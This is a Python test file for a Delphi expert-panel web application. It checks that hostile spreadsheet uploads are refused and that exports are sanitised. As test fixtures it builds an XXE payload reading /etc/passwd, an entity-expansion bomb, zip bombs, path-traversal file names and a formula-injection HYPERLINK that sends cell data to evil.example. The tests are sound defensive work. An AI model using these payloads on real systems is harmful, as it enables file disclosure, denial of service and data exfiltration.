"""Files coming in are hostile until proven otherwise; files going out carry neither formulas, names, nor times."""

from __future__ import annotations

import io
import json
import random
import re
import secrets
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from drafting.panel import records, submitting
from drafting.panel import tables as t
from drafting.panel.answering import Answer, save_answers
from drafting.panel.database import writing
from tests.drafting.panel.proving import CODES, Site, set_up, site_of
from tests.drafting.weights_projects import TRUE, fill_allocation, inputs, project

ME = CODES[0]
CLIMBED = f"panel-climbed-{secrets.token_hex(4)}.xml"
CLIMBS = tuple("../" * n + CLIMBED for n in range(1, 9))
FORMULA = '=HYPERLINK("http://evil.example?"&A1,"点我")'


# --- coming in ------------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def questionnaire(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """A filled questionnaire as an expert would return it."""
    from tests.drafting.weights_projects import write_allocation

    folder = tmp_path_factory.mktemp("questionnaire")
    blank, filled = folder / "blank.xlsx", folder / "filled.xlsx"
    system = inputs().system
    write_allocation(blank, ME, 1, system, frozenset(TRUE))
    fill_allocation(blank, filled, TRUE)
    return filled.read_bytes()


def upload(site: Site, number: int, *files: tuple[str, bytes]) -> str:
    boss = site.organiser()
    boss.get(f"/o/r/{number}/files")
    sent = [("workbook", (name, data, "application/octet-stream")) for name, data in files]
    reply = boss.client.post(f"/o/r/{number}/upload", data={"csrf": boss.csrf}, files=sent)
    assert reply.status_code == 200, reply.text
    return str(reply.text)


def repacked(data: bytes, change: dict[str, bytes | None]) -> bytes:
    """A workbook with parts replaced or added."""
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.infolist():
            if entry.filename not in change:
                new.writestr(entry, old.read(entry))
        for name, content in change.items():
            if content is not None:
                new.writestr(name, content)
    return stream.getvalue()


def hostile(kind: str, good: bytes) -> bytes:
    """One way to harm a reader of workbooks."""
    with zipfile.ZipFile(io.BytesIO(good)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
    doctype = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    laughs = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "' + b"&a;" * 50 + b'">]>'
    start = sheet.index(b"<worksheet")
    return {
        "external entity": lambda: repacked(
            good, {"xl/worksheets/sheet1.xml": sheet[:start] + doctype + sheet[start:]}
        ),
        "entities in entities": lambda: repacked(
            good, {"xl/worksheets/sheet1.xml": sheet[:start] + laughs + sheet[start:]}
        ),
        "zip bomb": lambda: repacked(good, {"xl/media/bomb.xml": b"0" * (60 << 20)}),
        "many parts": lambda: repacked(good, {f"xl/media/{k}.bin": b"" for k in range(400)}),
        "climbing part": lambda: repacked(good, dict.fromkeys(CLIMBS, b"<a/>")),
        "too large": lambda: repacked(good, {"xl/media/picture.bin": random.Random(1).randbytes(6 << 20)}),
        "large part": lambda: repacked(good, {"xl/media/zeros.xml": b"0" * (25 << 20)}),
        "empty": lambda: b"",
        "no workbook": lambda: b"\x7fELF" + b"\0" * 100,
        "old format": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
        "torn": lambda: good[: len(good) // 2],
        "web page": lambda: b"<html><script>alert(1)</script></html>",
    }[kind]()


KINDS = [
    "external entity", "entities in entities", "zip bomb", "many parts", "climbing part", "too large", "large part",
    "empty", "no workbook", "old format", "torn", "web page",
]  # fmt: skip


def test_a_good_workbook_is_taken(staged: Site, questionnaire: bytes) -> None:
    number = staged.stage.round()
    page = upload(staged, number, (f"{ME}.xlsx", questionnaire))
    assert "已导入" in page
    assert {r.channel for r in staged.stage.rows(t.answers)} == {"mail"}


@pytest.mark.parametrize("kind", KINDS)
def test_a_hostile_workbook_is_refused_and_harms_nobody(staged: Site, questionnaire: bytes, kind: str) -> None:
    number = staged.stage.round()
    page = upload(staged, number, ("坏.xlsx", hostile(kind, questionnaire)), (f"{ME}.xlsx", questionnaire))
    assert "root:" not in page
    assert "<script>alert" not in page
    assert "无法读取" in page
    assert "已导入" in page  # the good one beside it
    assert len(staged.stage.rows(t.submissions)) == 1
    above = (staged.stage.folder, *staged.stage.folder.parents)
    assert not [p for folder in above if (p := folder / CLIMBED).exists()]
    assert not (Path.cwd() / CLIMBED).exists()


def test_a_workbook_of_unpacked_size_is_refused_before_it_takes_the_memory(staged: Site, questionnaire: bytes) -> None:
    import tracemalloc

    number = staged.stage.round()
    with zipfile.ZipFile(io.BytesIO(questionnaire)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
    # in the part that is read: what lies beside it would never be unpacked
    bomb = repacked(questionnaire, {"xl/worksheets/sheet1.xml": sheet + b" " * (60 << 20)})
    assert len(bomb) < 1 << 20
    tracemalloc.start()
    try:
        upload(staged, number, ("b.xlsx", bomb))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 50 << 20  # the bomb unpacks to 60 MiB


def test_names_of_uploaded_files_are_only_names(staged: Site, questionnaire: bytes) -> None:
    number = staged.stage.round()
    before = sorted(p for p in staged.stage.folder.parent.rglob("*") if "sqlite" not in p.name)
    names = [
        "../../项目.xlsx",
        "..\\..\\项目.xlsx",
        "/etc/cron.d/x.xlsx",
        "<script>alert(1)</script>.xlsx",
        "C:\\con.xlsx",
    ]
    page = upload(staged, number, *((n, questionnaire) for n in names))
    assert ".." not in page
    assert "/etc/" not in page
    assert "<script>alert" not in page
    assert sorted(p for p in staged.stage.folder.parent.rglob("*") if "sqlite" not in p.name) == before


def test_more_than_the_limit_is_refused_while_it_comes(staged: Site) -> None:
    number = staged.stage.round()
    me = staged.expert(ME)
    for path, size in ((f"/e/{number}/0", 3 << 20), (f"/l/{staged.stage.links[ME]}", 64 << 10), ("/login", 64 << 10)):
        me.get("/login")
        reply = me.client.post(
            path, content=b"csrf=" + b"x" * size, headers={"content-type": "application/x-www-form-urlencoded"}
        )
        assert reply.status_code == 413, path

    def drip() -> Iterator[bytes]:
        for _ in range(100):
            yield b"x" * 64_000

    me.get("/e")
    reply = me.client.post(
        f"/e/{number}/answer", content=drip(), headers={"x-csrf": me.csrf, "content-type": "application/json"}
    )
    assert reply.status_code == 413


def test_a_form_with_very_many_fields_is_refused(staged: Site) -> None:
    number = staged.stage.round()
    me = staged.expert(ME)
    me.get(f"/e/{number}/0")
    reply = me.post(f"/e/{number}/0", {f"x{k}": "1" for k in range(5_000)})
    assert reply.status_code == 400


# --- going out --------------------------------------------------------------------------------------------
@pytest.fixture
def closed(database_url: str, tmp_path: Path) -> Iterator[Site]:
    """A closed round whose experts tried to smuggle formulas and names into files."""
    folder = project(tmp_path / "水泥行业")
    codes = ("=1+1", "../../../climb", "+甲", "CON", "e|x", "专家六")
    stage = set_up(database_url, folder, codes)
    number = stage.round()
    starts = ("=", "+", "-", "@", "\t=", "\r\n@")
    for k, code in enumerate(codes):
        given = {
            "w.0.0": "50",
            "w.0.1": "30",
            "w.0.2": "20",
            "o.0.0": starts[k] + FORMULA[1:],
            "a.0": "大",
            "a.4": "熟悉",
        }
        with writing(stage.engine) as c:
            save_answers(
                c, [Answer(None, number, stage.pseudonyms[code], i, v) for i, v in given.items()], 1_234_567_890
            )
            submitting.submit(c, records.panel(c, stage.panel_id), number, stage.pseudonyms[code], 1_234_567_890)
    stage.close(number)
    with site_of(stage) as site:
        yield site
    stage.engine.dispose()


def check_cells(data: bytes, name: str) -> int:
    """Every cell that starts like a formula is text; how many there were."""
    found = 0
    book = load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if (
                    isinstance(cell.value, str)
                    and cell.value.lstrip("\t\r\n ")[:1] in ("=", "+", "-", "@")
                    and "HYPERLINK" in cell.value
                ):
                    assert cell.data_type == "s", (name, cell.coordinate)
                    found += 1
                assert cell.data_type != "f" or "HYPERLINK" not in str(cell.value), (name, cell.coordinate)
                assert cell.hyperlink is None, (name, cell.coordinate)
    return found


def test_exported_workbooks_hold_text_and_their_names_do_not_climb(closed: Site) -> None:
    boss = closed.organiser()
    data = boss.get("/o/r/1/answers.zip").content
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert len(archive.namelist()) == 6
        for entry in archive.infolist():
            assert re.fullmatch(r'德尔菲/第1轮/[^/\\:*?"<>|]+\.xlsx', entry.filename), entry.filename
            assert ".." not in entry.filename.split("/")
            assert not entry.filename.rsplit("/", 1)[-1].upper().startswith("CON.")
            assert entry.date_time[:3] == (1980, 1, 1)
            assert check_cells(archive.read(entry), entry.filename) >= 1


def test_export_into_the_project_stays_in_it_and_replaces_nothing(closed: Site) -> None:
    root = closed.stage.folder
    taken = root / "德尔菲" / "第1轮" / "专家六.xlsx"  # somebody else's workbook under a name that the export would use
    taken.parent.mkdir(parents=True)
    book = Workbook()
    book.worksheets[0].title = "专家"
    for row in (("专家代号",), ("别人",)):
        book.worksheets[0].append(row)
    book.save(taken)
    before = {p: p.read_bytes() for p in root.parent.rglob("*.xlsx")}
    boss = closed.organiser()
    boss.get("/o/r/1/files")
    assert boss.post("/o/r/1/files").status_code == 200
    fresh = [p for p in root.parent.rglob("*.xlsx") if p not in before]
    assert len(fresh) == 6  # five experts and their self-assessments: the sixth name is taken
    assert all(p.resolve().is_relative_to(root.resolve()) for p in fresh)
    assert sum(check_cells(p.read_bytes(), p.name) for p in fresh) >= 5
    contents = {p: p.read_bytes() for p in root.rglob("*") if p.is_file()}
    boss.get("/o/r/1/files")
    boss.post("/o/r/1/files")
    assert {p: p.read_bytes() for p in contents if "成果" not in p.parts} == {
        p: d for p, d in contents.items() if "成果" not in p.parts
    }
    assert {p: p.read_bytes() for p in before} == before


def test_nothing_that_goes_out_carries_times_or_pseudonyms(closed: Site) -> None:
    boss = closed.organiser()
    pages = [
        boss.get(p).content
        for p in ("/o/r/1/answers.json", "/o/p/1/report?to=json", "/o/p/1/report?to=md", "/o/r/1/dissent")
    ]
    archive = zipfile.ZipFile(io.BytesIO(boss.get("/o/r/1/answers.zip").content))
    for name in archive.namelist():
        with zipfile.ZipFile(io.BytesIO(archive.read(name))) as book:
            pages += [book.read(part) for part in book.namelist()]
    whole = b"\n".join(pages)
    for pseudonym in closed.stage.pseudonyms.values():
        assert pseudonym.encode() not in whole
    for time in (b"1234567890", b"2009-02-1", b"2009/02/1"):
        assert time not in whole
    content = json.loads(pages[0])
    assert {e["expert"] for e in content["experts"]} == set(closed.stage.pseudonyms)  # the export is per code
    report = pages[1].decode() + pages[2].decode()
    for code in ("专家六", "climb", "+甲"):
        assert code not in report  # the committee's report is anonymous


def test_tables_for_mail_merge_hold_text(closed: Site) -> None:
    import base64

    boss = closed.organiser()
    boss.get("/o")
    assert boss.post("/o/r/1/missing.xlsx").status_code == 409  # the round has ended: nobody is to be reminded
    boss.get("/o/p/1/people")
    page = boss.post("/o/p/1/people", {"member": [str(k) for k in range(1, 7)], "days": "3"}).text
    merged = re.search(r"spreadsheetml\.sheet;base64,([\w+/=]+)", page)
    assert merged
    assert check_text(base64.b64decode(merged[1]))


def check_text(data: bytes) -> bool:
    return all(
        c.data_type in ("s", "n") and not c.hyperlink
        for s in load_workbook(io.BytesIO(data))
        for r in s.iter_rows()
        for c in r
    )
